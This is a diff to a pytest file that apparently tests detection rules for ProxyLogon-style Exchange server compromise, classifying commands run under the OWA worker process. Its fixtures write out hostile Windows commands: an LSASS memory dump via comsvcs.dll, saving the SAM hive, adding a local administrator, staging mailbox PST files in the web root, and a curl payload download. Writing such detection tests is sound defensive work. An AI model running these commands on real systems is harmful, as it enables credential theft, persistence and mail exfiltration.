@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import pytest
-from tests.campaigns.evidence_lines import V15, ecp, findings, iis, proxy, said, titles
+from tests.campaigns.evidence_lines import V15, ecp, findings, iis, process, proxy, said, titles
 
 BACK = "ServerInfo~a]@ex01.contoso.example:444"
 DDI = BACK + "/ecp/DDI/DDIService.svc/"
@@ -259,3 +259,41 @@ def test_exports_of_pages_and_of_mail(row: str, expected: set[tuple[str, str]]) 
 def test_forwarding_is_told_but_not_judged() -> None:
     row = 'Set-Mailbox|-Identity "anna" -ForwardingSmtpAddress "smtp:a@mail.example"'
     assert titles(findings(cmdlets(row), pack="web-shell-activity")) == {"Mail forwarded to another address"}
+
+
+POOL = 'w3wp.exe -ap "MSExchangeOWAAppPool" -v "v4.0"'
+TASKED = ("compromised", "shell-tasked")
+USED = ("compromised", "post-exploitation")
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("whoami", {TASKED}),
+        ("ipconfig /all", {TASKED}),
+        ("net user /domain", {TASKED}),
+        ('net group "Domain Admins" /domain', {TASKED}),
+        ("dir /s C:\\*.pst", {TASKED}),
+        ("tasklist | findstr lsass", {TASKED}),
+        (
+            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Windows\\Temp\\a.bin full",
+            {TASKED, USED},
+        ),
+        ("reg.exe save HKLM\\SAM C:\\Windows\\Temp\\s", {TASKED, USED}),
+        ("net localgroup administrators support1 /add", {TASKED, USED}),
+        ("copy D:\\mail\\user1.pst C:\\inetpub\\wwwroot\\", {TASKED, USED}),
+        ("powershell New-MailboxExportRequest -Mailbox user1", {TASKED, USED}),
+        ("curl.exe -o C:\\Windows\\Temp\\t.exe http://192.0.2.9/t", {TASKED, USED}),
+    ],
+)
+def test_to_look_around_is_not_yet_to_handle_passwords_mail_or_tools(
+    line: str, expected: set[tuple[str, str]]
+) -> None:
+    assert said(findings(process(f'"cmd" /c {line}', parent_line=POOL), pack="proxylogon")) == expected
+
+
+def test_a_program_under_another_application_is_not_the_campaigns() -> None:
+    found = findings(
+        process('"cmd" /c whoami', parent_line=POOL.replace("MSExchangeOWA", "Shop")), pack="proxylogon"
+    )
+    assert said(found) == set()
